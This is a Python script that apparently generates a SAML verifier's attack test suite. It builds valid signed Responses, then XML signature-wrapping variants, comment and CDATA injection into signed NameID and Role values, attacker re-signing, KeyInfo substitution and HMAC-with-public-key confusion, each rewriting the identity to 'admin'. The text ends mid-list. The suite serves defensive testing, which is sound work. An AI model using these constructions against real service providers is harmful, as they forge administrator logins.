#!/usr/bin/env python3
"""Generate the attack suite tests/attacks/ (documents + cases.json) and the test keys/metadata.

Regenerate (after scripts/setup-test-env.sh):

    .venv/bin/python scripts/gen-attacks.py

Keys under tests/keys/ are created only when missing, so with the committed keys the output is
byte-for-byte the same on every run, except the ECDSA signature values (ECDSA signing is
randomized). Signing uses the `xmlsec1` binary (Debian 1.2.37); where xmlsec1 refuses to produce
an attack (unknown algorithm URIs, external references, DSA without a DSA key), a signed document
is edited and its SignedInfo re-signed with RSA-SHA256 in Python; each such entry says so in its
`note`. Every `accept` document is checked with xmlsec1 against the trusted certificate (with the
message's KeyInfo removed) before anything is written.

cases.json format: /work/shared/corpus/README.md, plus `expect_code` (the fedgate error code the
verifier must report; null for accept), `extra_metadata` (additional trusted IdP metadata files)
and `allow_sha1`. Paths are relative to tests/attacks/. Expected codes follow the verifier's check
order literally (decode, parse, response shape, assertion count, issuer, signatures, response
binding, assertion profile, AWS attributes); where the order decides between several defects the
`note` says so.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import hashlib
import shutil
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import fixturelib as F  # noqa: E402
from fixturelib import DS, SAML, SAMLP, NSMAP, q  # noqa: E402
from lxml import etree  # noqa: E402

OUT = F.REPO / "tests" / "attacks"
A_ENTITY = "https://idp-a.example.test/saml"
B_ENTITY = "https://idp-b.example.test/saml"
WEAK_ENTITY = "https://idp-weak.example.test/saml"
ATTACKER_ENTITY = "https://idp-attacker.example.test/saml"
AT = "2026-01-01T00:01:00Z"  # IssueInstant + 60 s
META_A = "../keys/idp-a-metadata.xml"
META_B = "../keys/idp-b-metadata.xml"
META_WEAK = "../keys/weak-metadata.xml"
EVIL_ID = "_evil_assertion_ID"
EVIL_RESPONSE_ID = "_evil_response_ID"
T0 = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)


# ---------------------------------------------------------------------------------------------------
# keys and metadata
# ---------------------------------------------------------------------------------------------------
def keys():
    k = {
        "a": F.ensure_key("idp-a", "rsa2048", "idp-a.example.test"),
        "a_ec": F.ensure_key("idp-a-ec", "p256", "idp-a.example.test"),
        "b": F.ensure_key("idp-b", "rsa2048", "idp-b.example.test"),
        "attacker": F.ensure_key("attacker", "rsa2048", "idp-a.example.test"),  # same CN as IdP A on purpose
        "weak": F.ensure_key("weak-rsa1024", "rsa1024", "idp-weak.example.test"),
    }
    (F.KEYS / "idp-a-metadata.xml").write_bytes(F.idp_metadata(
        A_ENTITY, [(k["a"], "signing"), (k["a_ec"], None)], "https://idp-a.example.test/saml"))
    (F.KEYS / "idp-b-metadata.xml").write_bytes(F.idp_metadata(
        B_ENTITY, [(k["b"], "signing")], "https://idp-b.example.test/saml"))
    (F.KEYS / "weak-metadata.xml").write_bytes(F.idp_metadata(
        WEAK_ENTITY, [(k["weak"], "signing")], "https://idp-weak.example.test/saml"))
    return k


K = keys()
A, A_EC, B, ATTACKER, WEAK = K["a"], K["a_ec"], K["b"], K["attacker"], K["weak"]


# ---------------------------------------------------------------------------------------------------
# building blocks
# ---------------------------------------------------------------------------------------------------
def doc_a(**kw) -> F.Doc:
    return F.Doc(A_ENTITY, "IdpA", **kw)


def signed(mutate=None, *, doc: F.Doc | None = None, assertion=True, response=False, key=A,
           a_tpl=None, r_tpl=None) -> bytes:
    """Build a Response, apply `mutate(tree)` before signing, sign with xmlsec1."""
    tree = (doc or doc_a()).build()
    if mutate:
        mutate(tree)
    return F.sign_doc(tree, assertion=assertion, response=response, key=key, a_tpl=a_tpl, r_tpl=r_tpl)


def assertion(t) -> etree._Element:
    return t.getroot().find(q(SAML, "Assertion"))


def sig(el) -> etree._Element:
    return el.find(q(DS, "Signature"))


def nameid(a) -> etree._Element:
    return a.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")


def attr_values(a, name) -> list:
    return a.xpath("saml:AttributeStatement/saml:Attribute[@Name=$n]/saml:AttributeValue", namespaces=NSMAP, n=name)


def make_evil(a) -> None:
    """What every wrapping attack wants the SP to read: admin, with the Admin role."""
    nameid(a).text = "admin"
    attr_values(a, F.RSN_ATTR)[0].text = "admin"
    attr_values(a, F.ROLE_ATTR)[0].text = F.role_value("Admin", "IdpA")


def set_text_nodes(a, nid=None, rsn=None, role=None):
    if nid is not None:
        nameid(a).text = nid
    if rsn is not None:
        attr_values(a, F.RSN_ATTR)[0].text = rsn
    if role is not None:
        attr_values(a, F.ROLE_ATTR)[0].text = role


def add_attribute(a, name, values):
    ats = a.find(q(SAML, "AttributeStatement"))
    attr = etree.SubElement(ats, q(SAML, "Attribute"), Name=name, NameFormat=F.NAME_FORMAT_URI)
    for v in values:
        etree.SubElement(attr, q(SAML, "AttributeValue")).text = v


def extensions_after_issuer(root) -> etree._Element:
    ext = etree.Element(q(SAMLP, "Extensions"))
    anchor = root.find(q(DS, "Signature"))
    if anchor is None:
        anchor = root.find(q(SAML, "Issuer"))
    anchor.addnext(ext)
    return ext


def remove(el):
    """Remove an element but keep its tail (so layout stays tidy)."""
    parent = el.getparent()
    prev = el.getprevious()
    if el.tail:
        if prev is not None:
            prev.tail = (prev.tail or "") + el.tail if not (prev.tail or "").strip() else prev.tail
        else:
            parent.text = (parent.text or "")
    parent.remove(el)


def edit(xml: bytes, fn) -> bytes:
    """Parse a signed document, apply fn(tree), serialise (signed subtrees keep their bytes)."""
    t = F.parse(xml)
    fn(t)
    return F.serialize(t) + b"\n"


def replace_once(xml: bytes, old: bytes, new: bytes) -> bytes:
    assert xml.count(old) == 1, (old, xml.count(old))
    return xml.replace(old, new)


def after_response_issuer(xml: bytes, insert: bytes) -> bytes:
    """Insert bytes right after the first </saml:Issuer> (the Response's Issuer)."""
    marker = b"</saml:Issuer>"
    i = xml.index(marker) + len(marker)
    return xml[:i] + insert + xml[i:]


def with_doctype(xml: bytes, doctype: bytes) -> bytes:
    decl_end = xml.index(b"?>") + 2
    return xml[:decl_end] + b"\n" + doctype + xml[decl_end:]


def must_verify(xml: bytes, xpath: str, key: F.Key, what: str) -> None:
    if not F.xmlsec_verify(xml, xpath, key):
        raise SystemExit(f"gen-attacks: {what}: xmlsec1 does not verify {xpath} with {key.name}")


def must_not_verify(xml: bytes, xpath: str, key: F.Key, what: str) -> None:
    if F.xmlsec_verify(xml, xpath, key):
        raise SystemExit(f"gen-attacks: {what}: xmlsec1 unexpectedly verifies {xpath} with {key.name}")


def fixed_bytes(label: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{label}/{i}".encode()).digest()
        i += 1
    return out[:n]


# ---------------------------------------------------------------------------------------------------
# suite
# ---------------------------------------------------------------------------------------------------
def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    m = F.Manifest(OUT, at=AT, idp_metadata=META_A)

    # ---------------------------------------------------------------- valid documents (accept)
    v_assert = signed().rstrip()  # the truncation base: no trailing newline, so every strict prefix is incomplete
    v_resp = signed(assertion=False, response=True)
    v_both = signed(response=True)
    v_ec = signed(key=A_EC, a_tpl=F.sig_template("#" + doc_a().assertion_id, sig_alg=F.ECDSA_SHA256))
    v_b = signed(doc=F.Doc(B_ENTITY, "IdpB"), key=B)
    must_verify(v_assert, F.XP_ASSERTION_SIG, A, "valid assertion")
    must_verify(v_resp, F.XP_RESPONSE_SIG, A, "valid response")
    must_verify(v_both, F.XP_ASSERTION_SIG, A, "valid both/assertion")
    must_verify(v_both, F.XP_RESPONSE_SIG, A, "valid both/response")
    must_verify(v_ec, F.XP_ASSERTION_SIG, A_EC, "valid ecdsa")
    must_verify(v_b, F.XP_ASSERTION_SIG, B, "valid idp b")

    m.add("valid/assertion-signed.xml", v_assert, expect="accept", nameid="alice", truncations=True,
          reason="base document: AWS-style IdP-initiated Response, Assertion signed by IdP A (RSA-SHA256, SHA-256, exc-c14n), Response unsigned",
          note="truncations: the Rust test also feeds every 97th prefix and every prefix ending at a '>' and expects a reject (xml_malformed for all of them: the file has no trailing newline, so every strict prefix lacks the root end tag). Variants pin the 180 s skew at both ends of the validity window (NotBefore 00:00:00Z, NotOnOrAfter 01:00:00Z; NotOnOrAfter is exclusive) and the response-binding checks.",
          variants=[
              {"at": "2026-01-01T01:02:59Z", "expect": "accept", "expect_nameid": "alice", "expect_code": None,
               "reason": "179 s after NotOnOrAfter: inside the 180 s skew"},
              {"at": "2026-01-01T01:03:00Z", "expect": "reject", "expect_code": "expired",
               "reason": "NotOnOrAfter + 180 s: expired (NotOnOrAfter is exclusive)"},
              {"at": "2025-12-31T23:57:00Z", "expect": "accept", "expect_nameid": "alice", "expect_code": None,
               "reason": "NotBefore - 180 s: inside the skew (NotBefore is inclusive)"},
              {"at": "2025-12-31T23:56:59Z", "expect": "reject", "expect_code": "not_yet_valid",
               "reason": "NotBefore - 181 s: not yet valid"},
              {"in_response_to": ["_req-1"], "expect": "reject", "expect_code": "unsolicited_response",
               "reason": "unsolicited response (no InResponseTo) while request _req-1 is outstanding"},
              {"extra_metadata": [META_B], "expect": "accept", "expect_nameid": "alice", "expect_code": None,
               "reason": "IdP A document while both IdP A and IdP B are trusted"},
              {"idp_metadata": META_B, "expect": "reject", "expect_code": "issuer_unknown",
               "reason": "only IdP B is trusted; the Issuer is IdP A"},
              {"sp_entity_id": "https://other-sp.example.test/saml", "expect": "reject", "expect_code": "audience_mismatch",
               "reason": "the SP has another entity ID; Audience urn:amazon:webservices is not one of ours (the ACS URL is not in the Audience either)"},
              {"acs_url": "https://other-sp.example.test/saml/acs", "expect": "reject", "expect_code": "destination_mismatch",
               "reason": "the SP has another ACS URL: Destination (checked before Recipient) does not match"},
          ])
    m.add("valid/response-signed.xml", v_resp, expect="accept", nameid="alice",
          reason="only the Response is signed (by IdP A); the signature covers the single Assertion")
    m.add("valid/both-signed.xml", v_both, expect="accept", nameid="alice",
          reason="Assertion and Response both signed by IdP A")
    m.add("valid/assertion-signed-ecdsa.xml", v_ec, expect="accept", nameid="alice",
          reason="Assertion signed with IdP A's second key (ECDSA P-256, ecdsa-sha256); metadata lists it in a KeyDescriptor without `use`",
          note="ECDSA signature values are randomized: this file changes on every regeneration.")
    m.add("valid/idp-b-assertion-signed.xml", v_b, expect="accept", nameid="alice", metadata=META_B,
          reason="Assertion signed by IdP B, IdP B metadata trusted", variants=[
              {"idp_metadata": META_A, "extra_metadata": [META_B], "expect": "accept", "expect_nameid": "alice",
               "expect_code": None, "reason": "both IdPs trusted (IdP A first)"}])
    b64 = base64.b64encode(v_both)
    m.add("valid/both-signed.b64", b64 + b"\n", expect="accept", nameid="alice", b64=True,
          reason="valid/both-signed.xml as posted in SAMLResponse (base64, one line)")
    wrapped = b"\n".join(b64[i:i + 76] for i in range(0, len(b64), 76)) + b"\n"
    m.add("valid/both-signed-wrapped.b64", wrapped, expect="accept", nameid="alice", b64=True,
          reason="base64 wrapped at 76 columns (MIME style, as some IdPs post it)",
          note="Decision pinned here: line breaks (CR/LF) in SAMLResponse are ignored by the base64 decoder.")
    for name, alg, tr in [("c14n10", F.C14N10, F.C14N10), ("c14n11", F.C14N11, F.C14N11),
                          ("exc-c14n-with-comments", F.EXC_C14N, F.EXC_C14N_WC)]:
        x = signed(a_tpl=F.sig_template("#" + doc_a().assertion_id, c14n=alg, transforms=(F.ENVELOPED, tr)))
        must_verify(x, F.XP_ASSERTION_SIG, A, name)
        m.add(f"valid/transform-{name}.xml", x, expect="accept", nameid="alice",
              reason=f"Assertion signed with the allowed transform pair enveloped-signature + {name} ({tr})")
    x = signed(lambda t: attr_values(assertion(t), F.ROLE_ATTR)[0].__setattr__(
        "text", f"arn:aws:iam::{F.ACCOUNT}:saml-provider/IdpA,arn:aws:iam::{F.ACCOUNT}:role/Agent"))
    m.add("valid/role-provider-first.xml", x, expect="accept", nameid="alice",
          reason="Role value in provider,role order: AWS accepts either order (aws-federation.md §1.3)")
    x = signed(lambda t: add_attribute(assertion(t), "https://aws.amazon.com/SAML/Attributes/SessionDuration", ["43200"]))
    m.add("valid/session-duration-43200.xml", x, expect="accept", nameid="alice",
          reason="SessionDuration 43200 (the upper bound) is valid")
    x = signed(lambda t: assertion(t).find(f"{q(SAML, 'Conditions')}/{q(SAML, 'AudienceRestriction')}/{q(SAML, 'Audience')}")
               .__setattr__("text", F.ACS_URL))
    m.add("valid/audience-acs-url.xml", x, expect="accept", nameid="alice",
          reason="Audience is the ACS URL instead of the entity ID (DESIGN.md: entity ID or an ACS URL)")
    x = signed(lambda t: t.getroot().attrib.pop("Destination"), response=True)
    m.add("valid/no-destination.xml", x, expect="accept", nameid="alice",
          reason="no Destination attribute (checked only when present)")
    x = signed(lambda t: (t.getroot().set("InResponseTo", "_req-1"),
                          assertion(t).find(f".//{q(SAML, 'SubjectConfirmationData')}").set("InResponseTo", "_req-1")),
               response=True)
    m.add("valid/in-response-to.xml", x, expect="accept", nameid="alice", in_response_to=["_req-1"],
          reason="SP-initiated: InResponseTo _req-1 is outstanding")

    # ---------------------------------------------------------------- XML signature wrapping
    aid = doc_a().assertion_id

    def xsw1(t, fresh=False, detached=False):
        resp = t.getroot()
        clone = copy.deepcopy(resp)
        make_evil(assertion(t))
        if fresh:
            assertion(t).set("ID", EVIL_ID)
        remove(next(clone.iter(q(DS, "Signature"))))
        s = next(resp.iter(q(DS, "Signature")))
        if detached:
            s.addprevious(clone)
        else:
            s.append(clone)
        resp.set("ID", EVIL_RESPONSE_ID)

    def xsw3(t, into=False):
        a = assertion(t)
        evil = copy.deepcopy(a)
        make_evil(evil)
        evil.set("ID", EVIL_ID)
        remove(sig(evil))
        if into:  # XSW4
            t.getroot().append(evil)
            evil.append(a)
        else:
            a.addprevious(evil)

    def xsw5(t, into_sig=False):
        evil = assertion(t)
        orig_sig = sig(evil)
        clone = copy.deepcopy(evil)
        make_evil(evil)
        remove(sig(clone))
        (orig_sig if into_sig else t.getroot()).append(clone)
        evil.set("ID", EVIL_ID)

    def xsw7(t, fresh=False):
        a = assertion(t)
        ext = etree.Element("Extensions")  # no namespace, as SAML Raider creates it
        a.addprevious(ext)
        evil = copy.deepcopy(a)
        make_evil(evil)
        remove(sig(evil))
        if fresh:
            evil.set("ID", EVIL_ID)
        ext.append(evil)

    def xsw8(t, fresh=False):
        evil = assertion(t)
        orig_sig = sig(evil)
        clone = copy.deepcopy(evil)
        make_evil(evil)
        if fresh:
            evil.set("ID", EVIL_ID)
        remove(sig(clone))
        obj = etree.SubElement(orig_sig, "Object")  # no namespace, as SAML Raider creates it
        obj.append(clone)

    dup = ("the genuine and the evil Assertion share the ID " + aid +
           ": xml_duplicate_id (parse step) fires before the assertion count")
    xsw = [
        ("xsw1", v_resp, lambda t: xsw1(t), "xml_duplicate_id",
         "XSW1: signed Response cloned (without its Signature) into the original ds:Signature; the outer Response gets ID _evil_response_ID and an edited (admin) Assertion", dup),
        ("xsw1-fresh-ids", v_resp, lambda t: xsw1(t, fresh=True), "multiple_assertions",
         "XSW1 with the evil Assertion given a fresh ID, so that no ID repeats", "two saml:Assertion elements in the document (one inside the ds:Signature): counted anywhere, so multiple_assertions"),
        ("xsw2", v_resp, lambda t: xsw1(t, detached=True), "xml_duplicate_id",
         "XSW2: as XSW1 but the clone of the signed Response is a sibling before the Signature", dup),
        ("xsw2-fresh-ids", v_resp, lambda t: xsw1(t, fresh=True, detached=True), "multiple_assertions",
         "XSW2 with the evil Assertion given a fresh ID", "two saml:Assertion elements"),
        ("xsw3", v_assert, xsw3, "multiple_assertions",
         "XSW3: unsigned evil copy (ID _evil_assertion_ID) inserted before the signed Assertion", None),
        ("xsw4", v_assert, lambda t: xsw3(t, into=True), "multiple_assertions",
         "XSW4: evil copy appended to the Response and the signed Assertion moved inside it", "the single direct-child Assertion is the evil one; the signed one is nested inside it: two Assertions counted"),
        ("xsw5", v_assert, xsw5, "multiple_assertions",
         "XSW5: signed Assertion edited in place (keeps its Signature, ID changed to _evil_assertion_ID); an unsigned copy of the original (original ID) appended to the Response", None),
        ("xsw6", v_assert, lambda t: xsw5(t, into_sig=True), "multiple_assertions",
         "XSW6: as XSW5 but the copy of the original goes inside the evil Assertion's ds:Signature", None),
        ("xsw7", v_assert, xsw7, "xml_duplicate_id",
         "XSW7: unqualified <Extensions> before the signed Assertion holding an edited unsigned copy with the same ID", dup),
        ("xsw7-fresh-ids", v_assert, lambda t: xsw7(t, fresh=True), "multiple_assertions",
         "XSW7 with the evil copy given a fresh ID", "two Assertions (one inside the unqualified Extensions)"),
        ("xsw8", v_assert, xsw8, "xml_duplicate_id",
         "XSW8: signed Assertion edited in place (keeps ID and Signature); the unsigned original copy inside a new unqualified <Object> in the Signature", dup),
        ("xsw8-fresh-ids", v_assert, lambda t: xsw8(t, fresh=True), "multiple_assertions",
         "XSW8 with the edited Assertion given a fresh ID", "two Assertions"),
    ]

    def place(where):
        """Evil unsigned Assertion (fresh ID) where the signed one was; the signed original elsewhere."""
        def fn(t):
            root = t.getroot()
            orig = assertion(t)
            evil = copy.deepcopy(orig)
            make_evil(evil)
            evil.set("ID", EVIL_ID)
            orig.addprevious(evil)
            root.remove(orig)
            if where == "extensions":
                extensions_after_issuer(root).append(orig)
                remove(sig(evil))
            elif where == "advice":
                adv = etree.Element(q(SAML, "Advice"))
                evil.find(q(SAML, "Conditions")).addnext(adv)
                adv.append(orig)
                remove(sig(evil))
            elif where in ("object", "keyinfo"):
                s = sig(evil)  # a copy of the genuine Signature (Reference #original-ID)
                host = etree.SubElement(s, q(DS, "Object")) if where == "object" else s.find(q(DS, "KeyInfo"))
                host.append(orig)
            elif where == "statusdetail":
                detail = etree.SubElement(root.find(q(SAMLP, "Status")), q(SAMLP, "StatusDetail"))
                detail.append(orig)
                remove(sig(evil))
        return fn

    for where, text in [("extensions", "inside samlp:Extensions"), ("advice", "inside saml:Advice of the evil Assertion"),
                        ("object", "inside a ds:Object of the evil Assertion's (copied) Signature"),
                        ("keyinfo", "inside ds:KeyInfo of the evil Assertion's (copied) Signature"),
                        ("statusdetail", "inside samlp:Status/samlp:StatusDetail")]:
        xsw.append((f"wrap-{where}", v_assert, place(where), "multiple_assertions",
                    f"signed original Assertion moved {text}; an edited unsigned Assertion (admin, ID _evil_assertion_ID) is the Response's direct child",
                    "two Assertions in the document (counted anywhere)"))

    def evil_first(t, last=False):
        orig = assertion(t)
        evil = copy.deepcopy(orig)
        make_evil(evil)
        evil.set("ID", EVIL_ID)
        remove(sig(evil))
        (orig.addnext if last else orig.addprevious)(evil)

    xsw += [
        ("evil-first", v_both, evil_first, "multiple_assertions",
         "both-signed document with an unsigned evil Assertion inserted before the genuine one", "the Response digest no longer matches either, but the assertion count comes first"),
        ("evil-last", v_both, lambda t: evil_first(t, last=True), "multiple_assertions",
         "both-signed document with an unsigned evil Assertion after the genuine one (Lasso CVE-2021-28091 / 'XSW10')", "the Response digest no longer matches either, but the assertion count comes first"),
        ("copy-id-changed", v_assert, lambda t: assertion(t).addnext(
            (lambda c: (c.set("ID", aid + "-copy"), c)[1])(copy.deepcopy(assertion(t)))), "multiple_assertions",
         "signed Assertion followed by an exact copy (Signature included) whose ID was changed", None),
        ("signed-id-changed", v_assert, lambda t: assertion(t).set("ID", EVIL_ID), "reference_invalid",
         "the only Assertion keeps its Signature but its ID was changed: the Reference #" + aid + " resolves to nothing",
         "reference_invalid (unresolvable) comes before digest_mismatch"),
    ]
    for name, src, fn, code, reason, note in xsw:
        m.add(f"xsw/{name}.xml", edit(src, fn), expect="reject", code=code, reason=reason, note=note)

    # ---------------------------------------------------------------- multiple assertions, duplicate IDs
    def two_signed():
        tree = doc_a().build()
        root = tree.getroot()
        a1 = assertion(tree)
        a2 = copy.deepcopy(a1)
        a2.set("ID", "_assert-second")
        set_text_nodes(a2, nid="bob", rsn="bob")
        a1.addnext(a2)
        F.insert_after_issuer(a1, F.sig_template("#" + a1.get("ID")))
        F.insert_after_issuer(a2, F.sig_template("#_assert-second"))
        etree.indent(root, space="  ")
        xml = F.serialize(tree)
        xml = F.xmlsec_sign(xml, "/*/*[local-name()='Assertion'][1]/*[local-name()='Signature']", key=A)
        xml = F.xmlsec_sign(xml, "/*/*[local-name()='Assertion'][2]/*[local-name()='Signature']", key=A)
        return xml + b"\n"

    m.add("multi/two-signed-assertions.xml", two_signed(), expect="reject", code="multiple_assertions",
          reason="two Assertions (alice, bob), each correctly signed by IdP A")

    def signed_plus_unsigned_b(t):
        evil = copy.deepcopy(assertion(t))
        remove(sig(evil))
        evil.set("ID", EVIL_ID)
        make_evil(evil)
        evil.find(q(SAML, "Issuer")).text = B_ENTITY
        assertion(t).addnext(evil)

    m.add("multi/signed-plus-unsigned-other-issuer.xml", edit(v_assert, signed_plus_unsigned_b), expect="reject",
          code="multiple_assertions", extra_metadata=[META_B],
          reason="signed IdP A Assertion followed by an unsigned Assertion claiming IdP B as Issuer (both IdPs trusted)")

    def encrypted_el(label="enc"):
        ea = etree.Element(q(SAML, "EncryptedAssertion"))
        ed = etree.SubElement(ea, q(F.XENC, "EncryptedData"), nsmap={"xenc": F.XENC},
                              Type="http://www.w3.org/2001/04/xmlenc#Element")
        etree.SubElement(ed, q(F.XENC, "EncryptionMethod"), Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm")
        ki = etree.SubElement(ed, q(DS, "KeyInfo"), nsmap={"ds": DS})
        ek = etree.SubElement(ki, q(F.XENC, "EncryptedKey"))
        etree.SubElement(ek, q(F.XENC, "EncryptionMethod"), Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p")
        cd = etree.SubElement(ek, q(F.XENC, "CipherData"))
        etree.SubElement(cd, q(F.XENC, "CipherValue")).text = base64.b64encode(fixed_bytes(label + "/key", 256)).decode()
        cd = etree.SubElement(ed, q(F.XENC, "CipherData"))
        etree.SubElement(cd, q(F.XENC, "CipherValue")).text = F.b64_lines(fixed_bytes(label + "/data", 1200))
        return ea

    m.add("multi/encrypted-plus-plain.xml", signed(lambda t: assertion(t).addnext(encrypted_el()), response=True),
          expect="reject", code="multiple_assertions", encrypted=True,
          reason="signed Response with a plain Assertion and an EncryptedAssertion (dummy ciphertext)",
          note="EncryptedAssertion counts as an assertion: 2 → multiple_assertions, before encrypted_assertion_unsupported.")
    m.add("multi/no-assertion.xml", signed(lambda t: t.getroot().remove(assertion(t)), assertion=False, response=True),
          expect="reject", code="assertion_missing", reason="signed Response, Status Success, no Assertion at all")

    def only_in_extensions(t):
        a = assertion(t)
        t.getroot().remove(a)
        extensions_after_issuer(t.getroot()).append(a)

    m.add("multi/assertion-in-extensions.xml", edit(v_assert, only_in_extensions), expect="reject",
          code="assertion_misplaced", reason="the single signed Assertion sits inside samlp:Extensions instead of being a direct child of the Response")

    WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
    for name, attr in [("ID", "ID"), ("Id", "Id"), ("id", "id"), ("xml-id", "{http://www.w3.org/XML/1998/namespace}id"),
                       ("wsu-Id", q(WSU, "Id"))]:
        def dup_fn(t, attr=attr):
            ext = extensions_after_issuer(t.getroot())
            el = etree.SubElement(ext, q("urn:fedgate:test", "Marker"), nsmap={"fg": "urn:fedgate:test", "wsu": WSU}
                                  if attr.startswith("{" + WSU) else {"fg": "urn:fedgate:test"})
            el.set(attr, aid)
        m.add(f"multi/duplicate-id-{name}.xml", edit(v_assert, dup_fn), expect="reject", code="xml_duplicate_id",
              reason=f"an extra element in samlp:Extensions carries {name.replace('-', ':')}=\"{aid}\", the signed Assertion's ID")

    m.add("multi/response-and-assertion-same-id.xml", edit(v_assert, lambda t: t.getroot().set("ID", aid)), expect="reject",
          code="xml_duplicate_id",
          reason="the (unsigned) Response was given the signed Assertion's ID, so #" + aid + " is ambiguous",
          note="xmlsec1 refuses to sign documents with duplicate IDs, so only the Assertion signature exists (and is valid).")

    # ---------------------------------------------------------------- text-node injection (A3)
    long_nid, long_rsn = "admin.attacker", "admin.attacker"
    long_role = f"arn:aws:iam::{F.ACCOUNT}:saml-provider/IdpA,arn:aws:iam::{F.ACCOUNT}:role/AdminReadOnly"
    v_long = signed(lambda t: set_text_nodes(assertion(t), nid=long_nid, rsn=long_rsn, role=long_role))
    must_verify(v_long, F.XP_ASSERTION_SIG, A, "long values")
    full = f"full values the SP must read: NameID {long_nid}, RoleSessionName {long_rsn}, Role {long_role}"
    texts = [
        ("comment-in-nameid", b">admin.attacker</saml:NameID>", b">admin<!---->.attacker</saml:NameID>", "accept",
         "comment inserted into the NameID after signing (exc-c14n drops it; the digest still matches). A reader of the first text node would see `admin`"),
        ("comment-in-role-session-name", b">admin.attacker</saml:AttributeValue>", b">admin<!-- x -->.attacker</saml:AttributeValue>", "accept",
         "comment inserted into the RoleSessionName value after signing; first text node `admin`"),
        ("comment-in-role", b"role/AdminReadOnly</saml:AttributeValue>", b"role/Admin<!---->ReadOnly</saml:AttributeValue>", "accept",
         "comment inserted into the Role value after signing; first text node is the valid pair `...saml-provider/IdpA,...:role/Admin`"),
        ("cdata-in-nameid", b">admin.attacker</saml:NameID>", b">admin<![CDATA[.attacker]]></saml:NameID>", "accept",
         "CDATA section splits the NameID after signing (c14n turns CDATA into text; digest unchanged); first text node `admin`"),
        ("charref-in-nameid", b">admin.attacker</saml:NameID>", b">admin&#46;attacker</saml:NameID>", "accept",
         "character reference &#46; inside the NameID (quick-xml streams it as a separate event); same digest"),
        ("comment-in-issuer", b"<saml:Issuer>https://idp-a.example.test/saml</saml:Issuer>\n    <ds:Signature",
         b"<saml:Issuer>https://idp-a.example.test<!---->/saml</saml:Issuer>\n    <ds:Signature", "accept",
         "comment inside the Assertion Issuer after signing; first text node `https://idp-a.example.test` would be issuer_unknown"),
        ("pi-in-nameid", b">admin.attacker</saml:NameID>", b">admin<?fedgate x?>.attacker</saml:NameID>", "reject",
         "processing instruction inside the NameID after signing: c14n keeps PIs, so the digest no longer matches"),
    ]
    for name, old, new, expect, reason in texts:
        x = replace_once(v_long, old, new)
        if expect == "accept":
            must_verify(x, F.XP_ASSERTION_SIG, A, name)
            m.add(f"text/{name}.xml", x + b"\n", expect="accept", nameid=long_nid, reason=reason,
                  note=full + ". The verifier must concatenate all text nodes (or reject); it must never yield `admin`.")
        else:
            must_not_verify(x, F.XP_ASSERTION_SIG, A, name)
            m.add(f"text/{name}.xml", x + b"\n", expect="reject", code="digest_mismatch", reason=reason)

    # ---------------------------------------------------------------- keys, algorithms, signature structure
    def evil_doc(t):
        make_evil(assertion(t))

    x = signed(evil_doc, key=ATTACKER)
    must_verify(x, F.XP_ASSERTION_SIG, ATTACKER, "attacker")
    m.add("key/attacker-key-attacker-cert.xml", x, expect="reject", code="key_not_trusted",
          reason="edited (admin) Assertion re-signed with the attacker's key; the attacker's self-signed certificate (CN idp-a.example.test) in KeyInfo")
    x = signed(evil_doc, assertion=False, response=True, key=ATTACKER)
    m.add("key/attacker-key-response-signed.xml", x, expect="reject", code="key_not_trusted",
          reason="edited Response re-signed at Response level by the attacker, attacker certificate in KeyInfo")
    x = signed(evil_doc, key=ATTACKER, a_tpl=F.sig_template("#" + aid, keyinfo=False))
    m.add("key/attacker-key-no-keyinfo.xml", x, expect="reject", code="signature_invalid",
          reason="edited Assertion re-signed by the attacker, no KeyInfo at all")

    def keyinfo_a(t):
        s = sig(assertion(t))
        s.find(f"{q(DS, 'KeyInfo')}/{q(DS, 'X509Data')}/{q(DS, 'X509Certificate')}").text = F.b64_lines(A.cert_der())

    x = edit(signed(evil_doc, key=ATTACKER), keyinfo_a)
    m.add("key/attacker-key-idp-a-cert.xml", x, expect="reject", code="signature_invalid",
          reason="edited Assertion re-signed by the attacker with IdP A's genuine certificate put in KeyInfo (KeyInfo substitution)",
          note="KeyInfo names a trusted certificate, so not key_not_trusted; no trusted key verifies: signature_invalid.")

    hmac_dir = OUT / ".hmac-keys"
    hmac_dir.mkdir()
    (hmac_dir / "pem").write_bytes(A.cert_path.read_bytes())
    (hmac_dir / "der").write_bytes(A.cert_der())
    for name, alg, keyfile, code, sha1, what in [
        ("hmac-sha256-cert-pem", F.HMAC_SHA256, "pem", "signature_algorithm_forbidden", False, "the PEM text of IdP A's certificate file"),
        ("hmac-sha256-cert-der", F.HMAC_SHA256, "der", "signature_algorithm_forbidden", False, "the DER bytes of IdP A's certificate"),
        ("hmac-sha1-cert-pem", F.HMAC_SHA1, "pem", "signature_algorithm_forbidden", True, "the PEM text of IdP A's certificate file"),
    ]:
        tree = doc_a().build()
        make_evil(assertion(tree))
        F.insert_after_issuer(assertion(tree), F.sig_template("#" + aid, sig_alg=alg, keyinfo=False))
        etree.indent(tree.getroot(), space="  ")
        xml = F.xmlsec_sign(F.serialize(tree), F.XP_ASSERTION_SIG, hmac_key_file=hmac_dir / keyfile)

        def add_ki(t):
            s = sig(assertion(t))
            ki = etree.SubElement(s, q(DS, "KeyInfo"))
            etree.SubElement(etree.SubElement(ki, q(DS, "X509Data")), q(DS, "X509Certificate")).text = F.b64_lines(A.cert_der())
        m.add(f"key/{name}.xml", edit(xml, add_ki), expect="reject", code=code, sha1=sha1,
              reason=f"edited Assertion 'signed' with {alg.rsplit('#', 1)[1]} keyed with {what} (HMAC-with-public-key confusion); IdP A's certificate in KeyInfo",
              note="HMAC value computed by xmlsec1 --hmackey." + (" signature_algorithm_forbidden comes before sha1_not_allowed." if sha1 else ""))
    shutil.rmtree(hmac_dir)

    sha1_cases = [
        ("rsa-sha1", dict(sig_alg=F.RSA_SHA1), "RSA-SHA1 signature method, SHA-256 digest"),
        ("digest-sha1", dict(digest_alg=F.SHA1), "RSA-SHA256 signature method, SHA-1 digest"),
